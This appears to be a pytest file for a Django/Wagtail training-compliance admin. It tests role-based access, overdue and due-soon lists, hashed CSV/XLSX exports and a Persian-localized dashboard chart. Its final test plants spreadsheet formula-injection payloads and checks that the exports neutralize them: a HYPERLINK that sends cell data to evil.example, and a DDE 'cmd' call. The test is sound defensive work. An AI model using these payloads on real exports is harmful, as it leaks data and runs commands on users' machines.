"""Overdue and due-soon lists, a learner's history and the admin home panel, for each role."""

import csv
import datetime
import hashlib
import io

import openpyxl
import pytest
import time_machine
from django.contrib.auth.models import Group
from django.utils import timezone
from wagtail import hooks
from wagtail.users.models import UserProfile

from courses.models import Enrollment, StaffProfile
from courses.roles import ADMINISTRATORS, LEARNERS, MANAGERS, TRAINERS
from courses.testing import make_user
from courses.viewsets import HISTORY_PANELS_HOOK


def learners(response) -> list[str]:
    assert response.status_code == 200
    return [enrollment.user.username for enrollment in response.context["object_list"]]


@pytest.fixture
def trainer(client, org):
    user = make_user("trainer")
    user.groups.add(Group.objects.get(name=TRAINERS))
    client.force_login(user)
    return client


def test_the_roles_come_with_the_database(db):
    """The migration made the four groups with their permissions, before any set-up code ran."""
    groups = {group.name: group for group in Group.objects.prefetch_related("permissions__content_type")}
    codenames = {name: {p.codename for p in group.permissions.all()} for name, group in groups.items()}

    assert {LEARNERS, TRAINERS, MANAGERS, ADMINISTRATORS} <= set(groups)
    assert codenames[LEARNERS] == set()
    assert {"access_admin", "view_enrollment", "view_staffprofile", "view_certificate"} == codenames[MANAGERS]
    assert {"access_admin", "change_enrollment", "add_quizactivity"} <= codenames[TRAINERS]
    assert {"change_user", "change_group", "delete_staffprofile"} <= codenames[ADMINISTRATORS]


def test_the_overdue_list_shows_the_managers_team_only(manager_client):
    assert learners(manager_client.get("/admin/compliance/overdue/")) == ["bita"]


def test_a_trainer_sees_every_overdue_enrolment(trainer):
    assert sorted(learners(trainer.get("/admin/compliance/overdue/"))) == ["bita", "dara"]


def test_the_due_soon_list_shows_work_due_within_the_week(manager_client, trainer):
    assert learners(manager_client.get("/admin/compliance/due-soon/")) == ["cyrus"]
    assert learners(trainer.get("/admin/compliance/due-soon/")) == ["cyrus"]


@pytest.mark.parametrize("query", ["?q=dara", "?department=Branches", "?manager={omid}", "?p=2"])
def test_the_lists_never_show_another_team(manager_client, org, query):
    query = query.format(omid=org["people"]["omid"].pk)
    for report in ("overdue", "due-soon"):
        response = manager_client.get(f"/admin/compliance/{report}/{query}")
        assert set(learners(response)) <= {"ali", "bita", "cyrus"}


def csv_export(client, url: str) -> tuple[list[list[str]], dict[str, str]]:
    """The rows of a CSV export, then its parameters (after the blank line) by name."""
    response = client.get(url)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    blank = rows.index([])
    return rows[:blank], {row[0]: row[1] for row in rows[blank + 1 :]}


def xlsx_export(client, url: str) -> tuple[list[list], dict[str, str]]:
    """The rows of an XLSX export's first sheet, then its parameters sheet by name."""
    response = client.get(url)
    assert response.status_code == 200
    sheet, about = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).worksheets
    return [list(row) for row in sheet.iter_rows(values_only=True)], dict(about.iter_rows(values_only=True))


def sha256_of(rows: list[list[str]]) -> str:
    expected = hashlib.sha256()
    for row in rows:
        line = io.StringIO()
        csv.writer(line).writerow(row)
        expected.update(line.getvalue().encode())
    return expected.hexdigest()


def test_the_overdue_exports_parse_and_match_the_page(manager_client):
    rows, _ = csv_export(manager_client, "/admin/compliance/overdue/?export=csv")
    assert rows[0] == ["Learner", "Course", "Status", "Date", "Department", "Manager"]
    assert [row[:3] for row in rows[1:]] == [["Bita Bitason", "Listening basics", "Overdue"]]

    sheet, _ = xlsx_export(manager_client, "/admin/compliance/overdue/?export=xlsx")
    assert [row[:3] for row in sheet[1:]] == [["Bita Bitason", "Listening basics", "Overdue"]]


@pytest.mark.parametrize(("report", "learner"), [("overdue", "Bita Bitason"), ("due-soon", "Cyrus Cyrusson")])
def test_the_list_exports_carry_their_parameters_and_a_hash_that_a_rerun_reproduces(
    manager_client, org, report, learner
):
    url = f"/admin/compliance/{report}/?department=Customer+service&q=son"
    rows, about = csv_export(manager_client, f"{url}&export=csv")
    sheet, xlsx_about = xlsx_export(manager_client, f"{url}&export=xlsx")

    assert [row[0] for row in rows[1:]] == [learner]
    assert about["Scope"] == "Team of Mina Minason"
    assert about["Department"] == "Customer service"
    assert about["Search"] == "son"
    assert about["As of"] == timezone.localdate().isoformat()
    assert about["SHA-256 of the rows above"] == sha256_of(rows)
    assert xlsx_about["SHA-256 of the first sheet's rows as CSV"] == about["SHA-256 of the rows above"]
    assert [str(value)[:10] if hasattr(value, "year") else value or "" for value in sheet[1]] == rows[1]
    # The address given reproduces the export, on its day, whenever it is run again.
    with time_machine.travel(timezone.now() + datetime.timedelta(days=40), tick=False):
        manager_client.force_login(org["people"]["mina"])
        _, again = csv_export(manager_client, f"{about['Address']}&export=csv")
    assert again["SHA-256 of the rows above"] == about["SHA-256 of the rows above"]


def history(client, user) -> str:
    """A person's history as the reports link to it: through the report's address, on to their staff profile."""
    response = client.get(f"/admin/compliance/people/{user.pk}/")
    profile = StaffProfile.objects.get(user=user)
    assert response.status_code == 302
    assert response.url == f"/admin/staff_profiles/inspect/{profile.pk}/"
    page = client.get(response.url)
    assert page.status_code == 200
    return page.text


def test_a_manager_opens_the_history_of_their_team_member_only(manager_client, org):
    cyrus, dara = org["people"]["cyrus"], org["people"]["dara"]

    mine = history(manager_client, cyrus)

    assert "Cyrus Cyrusson" in mine
    assert "In progress" in mine
    assert manager_client.get(f"/admin/compliance/people/{dara.pk}/").status_code == 404
    dara_profile = StaffProfile.objects.get(user=dara)
    assert manager_client.get(f"/admin/staff_profiles/inspect/{dara_profile.pk}/").status_code == 404


def test_a_trainer_opens_anyones_history_with_every_cycle(trainer, org):
    elin = org["people"]["elin"]
    enrollment = Enrollment.objects.get(user=elin)

    page = history(trainer, elin)

    assert "Expired" in page
    assert "Listening basics" in page
    assert str(enrollment.cycles.get().opened_on.year) in page


def test_the_reports_link_each_person_to_their_history(manager_client, org):
    bita = StaffProfile.objects.get(user=org["people"]["bita"])
    for report in ("matrix", "overdue"):
        page = manager_client.get(f"/admin/compliance/{report}/").text
        assert f'href="/admin/staff_profiles/inspect/{bita.pk}/"' in page


def test_other_apps_add_panels_to_the_history(trainer, org):
    def certificates(request, learner):
        return f"<p>Certificates of {learner.username}</p>"

    with hooks.register_temporarily(HISTORY_PANELS_HOOK, certificates):
        page = history(trainer, org["people"]["ali"])

    assert "Certificates of ali" in page


def test_a_learner_cannot_open_a_history(client, org):
    client.force_login(org["people"]["bita"])

    response = client.get(f"/admin/compliance/people/{org['people']['bita'].pk}/")

    assert response.status_code in (302, 403)


def test_the_home_panel_counts_the_managers_team(manager_client):
    panel = manager_client.get("/admin/").text

    start = panel.index('id="compliance')
    assert "Training compliance" in panel
    counts = panel[start : panel.index("Open the compliance matrix", start)]
    assert '<span class="compliance-count">1</span>Overdue' in counts
    assert '<span class="compliance-count">1</span>Due soon' in counts
    assert '<svg class="compliance-chart"' in panel[start:]


def test_the_home_panel_charts_in_persian_with_persian_digits(manager_client, org):
    profile = UserProfile.get_for_user(org["people"]["mina"])
    profile.preferred_language = "fa"
    profile.save()

    panel = manager_client.get("/admin/").text

    start = panel.index('id="compliance')
    chart = panel.index('<svg class="compliance-chart"', start)
    svg = panel[chart : panel.index("</svg>", chart)]
    assert 'direction="rtl"' in svg
    assert "٪" in svg or "%" in svg
    assert "۵۰" in svg or "۱۰۰" in svg  # completion rates in Persian digits


def test_a_learner_has_no_home_panel_or_report(client, org):
    client.force_login(org["people"]["bita"])

    assert client.get("/admin/compliance/overdue/").status_code in (302, 403)


@pytest.mark.parametrize(("report", "learner"), [("matrix", "bita"), ("overdue", "bita"), ("due-soon", "cyrus")])
def test_no_export_cell_can_run_a_formula(manager_client, org, report, learner):
    person = org["people"][learner]
    person.first_name, person.last_name = '=HYPERLINK("http://evil.example/?"&A1', '"x")'
    person.save()
    StaffProfile.objects.filter(user=person).update(department="+cmd|' /C calc'!A0", persian_name="")
    name = '\'=HYPERLINK("http://evil.example/?"&A1 "x")'

    rows, _ = csv_export(manager_client, f"/admin/compliance/{report}/?export=csv")
    sheet, _ = xlsx_export(manager_client, f"/admin/compliance/{report}/?export=xlsx")

    for written in (rows, sheet):
        row = next(row for row in written if row[0] == name)
        assert "'+cmd|' /C calc'!A0" in row
        cells = [cell for row in written for cell in row if isinstance(cell, str)]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
